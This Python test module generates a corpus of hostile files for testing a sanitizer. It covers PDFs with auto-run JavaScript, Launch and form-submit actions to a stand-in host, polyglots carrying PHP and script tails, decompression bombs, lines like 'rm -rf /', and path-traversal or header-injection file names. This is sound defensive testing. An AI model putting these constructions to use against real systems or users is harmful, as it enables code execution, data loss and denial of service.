"""Some six hundred hostile files in families; each brings what must not be in what is kept of it."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

from tests.files import makers


class Hostile(NamedTuple):
    """A file, the name that it comes under, and bytes that mean its payload came through."""

    family: str
    name: str
    content: bytes
    payload: tuple[bytes, ...] = ()


CANARY = b"canario-hostil-7391"
SCRIPTS = ("app.alert(1)", "this.exportDataObject({cName:'x',nLaunch:2})", "app.launchURL('http://malo.example')")


def every() -> Iterator[Hostile]:
    """All of them, family by family."""
    for family in FAMILIES:
        yield from family()


def _js(made: Pdf, script: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(f"{script}//{CANARY.decode()}"))


def _launch(made: Pdf, _script: str) -> Dictionary:
    return Dictionary(S=Name.Launch, F=String(f"cmd.exe {CANARY.decode()}"), NewWindow=True)


def _submit(made: Pdf, _script: str) -> Dictionary:
    address = Dictionary(FS=Name.URL, F=String(f"http://malo.example/{CANARY.decode()}"))
    return Dictionary(S=Name.SubmitForm, F=address, Flags=4)


def _remote(made: Pdf, _script: str) -> Dictionary:
    return Dictionary(S=Name.GoToR, F=String(f"\\\\malo.example\\{CANARY.decode()}"), D=Array([0, Name.Fit]))


def _import(made: Pdf, _script: str) -> Dictionary:
    return Dictionary(S=Name.ImportData, F=String(CANARY.decode()))


def _rendition(made: Pdf, script: str) -> Dictionary:
    return Dictionary(S=Name.Rendition, OP=0, JS=String(f"{script}//{CANARY.decode()}"))


def _odd_uri(made: Pdf, _script: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(f"javascript:alert(1)//{CANARY.decode()}"))


def _chained(made: Pdf, script: str) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([_js(made, script), _launch(made, script)]))


ACTIONS = (_js, _launch, _submit, _remote, _import, _rendition, _odd_uri, _chained)


def _opening(made: Pdf, action: Dictionary) -> None:
    made.Root.OpenAction = made.make_indirect(action)


def _closing(made: Pdf, action: Dictionary) -> None:
    made.Root.AA = Dictionary(WC=action, DP=action)


def _page_event(made: Pdf, action: Dictionary) -> None:
    made.pages[0].obj.AA = Dictionary(O=action, C=action)


def _link(made: Pdf, action: Dictionary) -> None:
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 700]), A=action)]
    )


def _named(made: Pdf, action: Dictionary) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def _outline(made: Pdf, action: Dictionary) -> None:
    item = made.make_indirect(Dictionary(Title=String("Capítulo"), A=action))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = made.Root.Outlines


def _field_event(made: Pdf, action: Dictionary) -> None:
    field = makers.text_field(made, "valor", "1")
    field.AA = Dictionary(K=action, F=action, V=action, C=action)
    made.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


def _widget(made: Pdf, action: Dictionary) -> None:
    field = makers.text_field(made, "boton", "1")
    field.FT = Name.Btn
    field.A = action
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def _in_resources(made: Pdf, action: Dictionary) -> None:
    made.pages[0].obj.Resources.Properties = Dictionary(Capa=Dictionary(Type=Name.OCG, Oculto=action))


def _in_a_form(made: Pdf, action: Dictionary) -> None:
    form = Stream(made, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), PieceInfo=action)
    made.pages[0].obj.Resources.XObject = Dictionary(X=made.make_indirect(form))


def _in_metadata(made: Pdf, action: Dictionary) -> None:
    made.pages[0].obj.PieceInfo = Dictionary(Algo=Dictionary(Private=action))
    made.pages[0].obj.Metadata = Stream(made, CANARY)


PLACES = (
    _opening, _closing, _page_event, _link, _named, _outline, _field_event, _widget, _in_resources, _in_a_form,
    _in_metadata,
)  # fmt: skip


def actions() -> Iterator[Hostile]:
    """Each action in each place, packed and unpacked."""
    for place in PLACES:
        for action in ACTIONS:
            for mode in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
                made = makers.document(1)
                place(made, action(made, SCRIPTS[len(place.__name__) % len(SCRIPTS)]))
                yield Hostile("action", "acta.pdf", makers.saved(made, object_stream_mode=mode), (CANARY,))


def disguised_names() -> Iterator[Hostile]:
    """Names written with their letters as numbers, which only a parser sees through."""
    for plain, disguised in (
        (b"/JavaScript", b"/J#61vaScript"), (b"/JS", b"/#4a#53"), (b"/OpenAction", b"/Open#41ction"),
        (b"/Launch", b"/L#61unch"), (b"/AA", b"/#41#41"),
    ):  # fmt: skip
        for place in (_opening, _closing, _page_event):
            made = makers.document(1)
            place(made, _js(made, SCRIPTS[0]) if plain != b"/Launch" else _launch(made, ""))
            content = makers.saved(made, object_stream_mode=pikepdf.ObjectStreamMode.disable)
            yield Hostile("disguised", "acta.pdf", content.replace(plain, disguised), (CANARY,))


def attachments() -> Iterator[Hostile]:
    """Files inside, in each way that there is."""
    program = b"MZ\x90\x00" + CANARY
    for name in ("factura.exe", "..\\..\\x.scr", "doc.pdf.js", "nota.docm", "virus.com", "\u202efdp.exe"):
        yield Hostile("attachment", "acta.pdf", makers.attachment_pdf(name, program), (CANARY,))
        made = makers.document(1)
        inner = made.make_indirect(Stream(made, program, Type=Name.EmbeddedFile))
        specification = made.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), EF=Dictionary(F=inner)))
        made.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=specification)]
        )
        made.Root.AF = Array([specification])
        made.pages[0].obj.AF = Array([specification])
        made.pages[0].obj.Resources.ExtGState = Dictionary(G=Dictionary(AF=Array([specification]), Oculto=inner))
        yield Hostile("attachment", name + ".pdf", makers.saved(made), (CANARY,))
    for subtype in (Name.RichMedia, Name.Screen, Name.Movie, Name.Sound, Name("/3D")):
        made = makers.document(1)
        media = made.make_indirect(Stream(made, CANARY, Type=Name("/3D"), Subtype=Name.U3D))
        note = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 99, 99]))
        note["/3DD"] = media
        note.RichMediaContent = Dictionary(Assets=media)
        made.pages[0].obj.Annots = Array([note])
        yield Hostile("media", "acta.pdf", makers.saved(made), (CANARY,))
    for key in ("/Alternates", "/OPI", "/Ref", "/Metadata", "/AF"):
        made = makers.document(1)
        image = Stream(
            made, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8,
            ColorSpace=Name.DeviceGray,
        )  # fmt: skip
        image[key] = Array([Dictionary(Image=made.make_indirect(Stream(made, CANARY)))])
        made.pages[0].obj.Resources.XObject = Dictionary(I=made.make_indirect(image))
        yield Hostile("attachment", "acta.pdf", makers.saved(made), (CANARY,))
    made = makers.document(1)
    script = Stream(made, CANARY, Type=Name.XObject, Subtype=Name.PS)
    made.pages[0].obj.Resources.XObject = Dictionary(P=made.make_indirect(script))
    yield Hostile("postscript", "acta.pdf", makers.saved(made), (CANARY,))


def external_streams() -> Iterator[Hostile]:
    """Streams whose bytes stand in another file or at an address."""
    for target in ("/etc/passwd", "\\\\malo.example\\x", "http://malo.example/x", "C:\\x"):
        made = makers.document(1)
        made.pages[0].obj.Contents = Stream(made, b"q Q", F=String(target + CANARY.decode()), FFilter=Name.FlateDecode)
        yield Hostile("external", "acta.pdf", makers.saved(made), (CANARY,))


def forms() -> Iterator[Hostile]:
    """XFA, dynamic and static, with scripts."""
    for dynamic in (True, False):
        for packets in range(1, 6):
            made = makers.document(1)
            xfa = made.make_indirect(Stream(made, b"<xdp:xdp><script>" + CANARY + b"</script></xdp:xdp>"))
            fields = Array([]) if dynamic else Array([makers.text_field(made, "a", "b")])
            made.Root.AcroForm = Dictionary(Fields=fields, XFA=Array([String("a"), xfa] * packets))
            yield Hostile("xfa", "formulario.pdf", makers.saved(made), (CANARY,))


def signed() -> Iterator[Hostile]:
    """Signed, and holding something that acts: they cannot be cleaned."""
    for place in (_opening, _closing, _page_event, _link, _named, _in_metadata):
        for action in ACTIONS:
            content = makers.signed_pdf()
            with pikepdf.open(io.BytesIO(content)) as made:
                place(made, action(made, SCRIPTS[0]))
                yield Hostile("signed", "firmado.pdf", makers.saved(made), (CANARY,))
    for tail in (b"PK\x03\x04" + CANARY, b"<script>" + CANARY + b"</script>", CANARY):
        yield Hostile("signed", "firmado.pdf", makers.signed_pdf() + tail, (CANARY,))


def _zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, CANARY)
    return out.getvalue()


TAILS: dict[str, Callable[[], bytes]] = {
    "zip": lambda: _zipped("x.js"),
    "jar": lambda: _zipped("META-INF/MANIFEST.MF", "X.class"),
    "docm": lambda: _zipped("[Content_Types].xml", "word/vbaProject.bin"),
    "html": lambda: b"<html><script>alert('" + CANARY + b"')</script></html>",
    "script": lambda: b"<script>" + CANARY + b"</script>",
    "php": lambda: b"<?php system('" + CANARY + b"'); ?>",
    "js": lambda: b"*/=1;alert('" + CANARY + b"')",
    "exe": lambda: b"MZ\x90\x00" + CANARY,
    "elf": lambda: b"\x7fELF\x02\x01\x01" + CANARY,
    "svg": lambda: b"<svg onload='alert(1)'>" + CANARY + b"</svg>",
    "noise": lambda: CANARY * 2000,
    "eicar": lambda: makers.EICAR + CANARY,
}


def polyglots() -> Iterator[Hostile]:
    """Two files in one: something before, behind or in between."""
    honest = {"pdf": makers.pdf(), "jpg": makers.jpeg(), "png": makers.png()}
    for extension, content in honest.items():
        for tail in TAILS.values():
            yield Hostile("tail", f"acta.{extension}", content + tail(), (CANARY,))
            yield Hostile("tail", f"acta.{extension}", content + b"\n\n" + tail() + b"\n%%EOF\n", (CANARY,))
            yield Hostile("head", f"acta.{extension}", tail() + b"\n" + content, (CANARY,))
    for first, one in honest.items():
        for second, other in honest.items():
            if first != second:
                yield Hostile("pair", f"acta.{second}", one + other.replace(b"Documento", CANARY), (CANARY,))
    for junk in (b"GIF89a", b"BM", b"#!/bin/sh\n", b"\x00\x01\x02", b"<html>", b"From: a\n\n", b"x" * 500, b"%!PS\n"):
        yield Hostile("head", "acta.pdf", junk + makers.script_pdf(CANARY.decode()), (CANARY,))
    for extension in ("jpg", "png"):
        yield Hostile("comment", f"foto.{extension}", _commented(extension), (CANARY,))


def _commented(extension: str) -> bytes:
    if extension == "jpg":
        content = makers.jpeg()
        comment = b"<?php " + CANARY + b" ?>"
        return content[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2) + comment + content[2:]
    content, body = makers.png(), b"Comment\x00<script>" + CANARY
    chunk = len(body).to_bytes(4) + b"tEXt" + body + zlib.crc32(b"tEXt" + body).to_bytes(4)
    return content[:33] + chunk + content[33:]


def bombs() -> Iterator[Hostile]:
    """Few bytes that say, or become, very many."""
    for width, height in ((30_000, 30_000), (65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (7000, 7000)):
        yield Hostile("bomb", "foto.png", makers.bomb_png(width, height))
    for width, height in ((65_500, 65_500), (65_535, 1000), (9000, 9000)):
        content = makers.jpeg((16, 16))
        frame = content.index(b"\xff\xc0")
        patched = content[: frame + 5] + height.to_bytes(2) + width.to_bytes(2) + content[frame + 9 :]
        yield Hostile("bomb", "foto.jpg", patched)
    yield Hostile("bomb", "acta.pdf", makers.bomb_pdf(100))
    for depth in (2, 3, 4, 6):
        made, packed = makers.document(1), b" " * 100_000_000
        for _level in range(depth):
            packed = zlib.compress(packed, 1)
        made.pages[0].obj.Contents = Stream(made, packed, Filter=Array([Name.FlateDecode] * depth))
        yield Hostile("bomb", "acta.pdf", _as_they_are(made))
    for name, packed in (("RunLengthDecode", b"\x81 " * 3_000_000), ("LZWDecode", lzw_bomb(20))):
        made = makers.document(1)
        made.pages[0].obj.Contents = Stream(made, packed, Filter=Name("/" + name))
        yield Hostile("bomb", "acta.pdf", _as_they_are(made))
    for width, height in ((60_000, 60_000), (10**9, 10), (10, 10)):
        made = makers.document(1)
        image = Stream(
            made, zlib.compress(bytes(100_000_000), 1), Type=Name.XObject, Subtype=Name.Image, Width=width,
            Height=height, BitsPerComponent=8, ColorSpace=Name.DeviceRGB, Filter=Name.FlateDecode,
        )  # fmt: skip
        made.pages[0].obj.Resources.XObject = Dictionary(I=made.make_indirect(image))
        yield Hostile("bomb", "acta.pdf", _as_they_are(made))
    yield Hostile("bomb", "muchas.pdf", makers.pdf(201))


def _as_they_are(made: Pdf) -> bytes:
    return makers.saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def lzw_bomb(rounds: int) -> bytes:
    """Codes that each repeat the longest word so far: 3,838 of them, then clear and again."""
    bits, out, held, width = 0, bytearray(), 0, 9
    for _round in range(rounds):
        for code in [256, 0, *range(258, 4095)]:
            bits, held = bits << width | code, held + width
            while held >= 8:
                held -= 8
                out.append(bits >> held & 255)
            bits &= (1 << held) - 1
            entries = max(0, code - 257) if code != 256 else 0
            width = 9 if entries + 258 < 511 else 10 if entries + 258 < 1023 else 11 if entries + 258 < 2047 else 12
    return bytes(out)


def tangles() -> Iterator[Hostile]:
    """Structures without an end."""
    plain = makers.saved(makers.document(3), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(plain)) as made:
        made.Root.Pages.Kids = Array([made.Root.Pages, *made.Root.Pages.Kids])
        yield Hostile("loop", "acta.pdf", makers.saved(made))
    for depth in (1, 2, 3):
        made = makers.document(1)
        node = made.Root.Pages
        for _level in range(depth):
            inner = made.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([]), Count=1, Parent=node))
            node.Kids = Array([inner])
            node = inner
        node.Kids = Array([made.Root.Pages])
        yield Hostile("loop", "acta.pdf", makers.saved(made))
    for deep in (200, 600, 5000):
        nested = b"[" * deep + b"]" * deep
        body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + nested + b">>endobj\n"
        yield Hostile(
            "nested", "acta.pdf", body + b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
        )
    for length in (b"5 0 R", b"4 0 R", b"99999999999", b"-1"):
        body = (
            b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/Parent 3 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Length "
            + length
            + b">>stream\nq Q\nendstream endobj\n5 0 obj 5 0 R endobj\n"
            b"6 0 obj<</Type/ObjStm/N 9999999/First 10/Extends 6 0 R/Length 5>>stream\n6 0 1 \nendstream endobj\n"
        )
        for root in (b"1 0 R", b"6 0 R", b"77 0 R"):
            yield Hostile(
                "tangle", "acta.pdf", body + b"trailer<</Root " + root + b"/Prev 9/Size 7>>\nstartxref\n9\n%%EOF", ()
            )


def cut() -> Iterator[Hostile]:
    """The beginning of an honest file, at each tenth."""
    for content, name in (
        (makers.pdf(5), "acta.pdf"), (makers.scan(2), "escaneo.pdf"), (makers.jpeg(), "foto.jpg"),
        (makers.pdf(5, linearize=True), "lineal.pdf"), (makers.signed_pdf(), "firmado.pdf"),
        (makers.png(), "foto.png"), (makers.jpeg(progressive=True), "foto.jpg"),
    ):  # fmt: skip
        for tenth in range(10):
            yield Hostile("cut", name, content[: len(content) * tenth // 10])


def lies() -> Iterator[Hostile]:
    """What is something else, under each name that is taken; and names that are traps themselves."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + CANARY
    heic = b"\x00\x00\x00\x18ftypheic" + bytes(100)
    others = {
        "svg": makers.svg(),
        "svg_bare": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "svg_marked": b"\xef\xbb\xbf\n<!-- x --><svg/>",
        "svg_wide": "<svg><script/></svg>".encode("utf-16"),
        "html": b"<!DOCTYPE html><html><script>1</script></html>",
        "html_bare": b"   <script>alert(1)</script>",
        "xml": b"<?xml version='1.0'?><factura/>",
        "exe": b"MZ\x90\x00\x03" + bytes(100),
        "elf": b"\x7fELF" + bytes(60),
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "bat": b"@echo off\r\ndel *.*\r\n",
        "zip": _zipped("a.pdf"),
        "docx": _zipped("[Content_Types].xml", "word/document.xml"),
        "xlsm": _zipped("[Content_Types].xml", "xl/vbaProject.bin"),
        "odt": _zipped("content.xml"),
        "doc": ole,
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "gz": b"\x1f\x8b\x08" + bytes(50),
        "class": b"\xca\xfe\xba\xbe" + bytes(50),
        "gif": b"GIF89a" + bytes(50),
        "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        "tiff": b"II*\x00" + bytes(50),
        "heic": heic,
        "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(50),
        "rtf": b"{\\rtf1 {\\object}}",
        "ps": b"%!PS-Adobe\n(x) run",
        "txt": "solo texto, ñandú".encode(),
        "eicar": makers.EICAR,
        "eml": b"From: a@example.com\r\nSubject: x\r\n\r\nx",
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "noise": bytes(range(256)) * 4,
        "nulls": bytes(2000),
        "zero": b"",
        "p7m": b"0\x82\x10\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + bytes(99),
    }
    for content in others.values():
        for name in ("acta.pdf", "foto.jpg", "foto.png"):
            yield Hostile("lie", name, content)
    for name in ("../../etc/passwd", "a\x00.pdf", "\u202efdp.exe", "CON", "x" * 400 + ".pdf", "a\r\nSet-Cookie: x.pdf"):
        yield Hostile("name", name, makers.script_pdf(CANARY.decode()), (CANARY,))


def damaged_pictures() -> Iterator[Hostile]:
    """Pictures whose insides are not what they say."""
    png = makers.png()
    for start in range(8, 32, 3):
        yield Hostile("damaged", "foto.png", png[:start] + bytes([png[start] ^ 0xFF]) + png[start + 1 :])
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG", icc_profile=zlib.compress(bytes(50_000_000)))
    yield Hostile("profile", "perfil.png", out.getvalue(), (b"iCCP",))


FAMILIES: tuple[Callable[[], Iterator[Hostile]], ...] = (
    actions, disguised_names, attachments, external_streams, forms, signed, polyglots, bombs, tangles, cut, lies,
    damaged_pictures,
)  # fmt: skip
